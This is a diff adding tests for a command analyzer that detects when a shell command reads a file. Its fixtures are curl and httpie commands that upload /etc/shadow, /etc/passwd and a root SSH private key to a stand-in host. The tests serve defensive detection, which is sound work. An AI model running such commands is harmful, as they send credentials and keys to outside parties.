@@ -47,3 +47,23 @@ describe('programs given a file: URL read (or write) the file it names', () => {
     },
   );
 });
+
+describe('a file named inside a form field or data value', () => {
+  it.each<[string, string[]]>([
+    ["curl -F 'f=</etc/shadow' https://example.com/u", ['read /etc/shadow']],
+    ["curl -F 'a=</root/.ssh/id_rsa;type=text/plain' https://example.com/", ['read /root/.ssh/id_rsa']],
+    ["curl -F 'f=@/etc/passwd;filename=x.txt' https://example.com/", ['read /etc/passwd']],
+    ["curl --data-urlencode 'x@/etc/shadow' https://example.com/", ['read /etc/shadow']],
+    ["curl --variable 'x@/etc/shadow' --expand-data '{{x}}' https://example.com/", ['read /etc/shadow']],
+    ['http POST example.com f@/etc/shadow', ['read /etc/shadow']],
+  ])('%s', (script, expected) => {
+    expect(words(script)).toEqual(expected);
+  });
+
+  it.each([['git clone git@github.com:org/repo.git'], ['npm install left-pad@1.3.0'], ['pip install pkg@git+https://x/y'], ['ssh user@example.com ls'], ['git log --author=me@example.com']])(
+    'names no file in %s',
+    (script) => {
+      expect(words(script).filter((w) => w.includes('/') && !w.includes('repo.git'))).toEqual([]);
+    },
+  );
+});
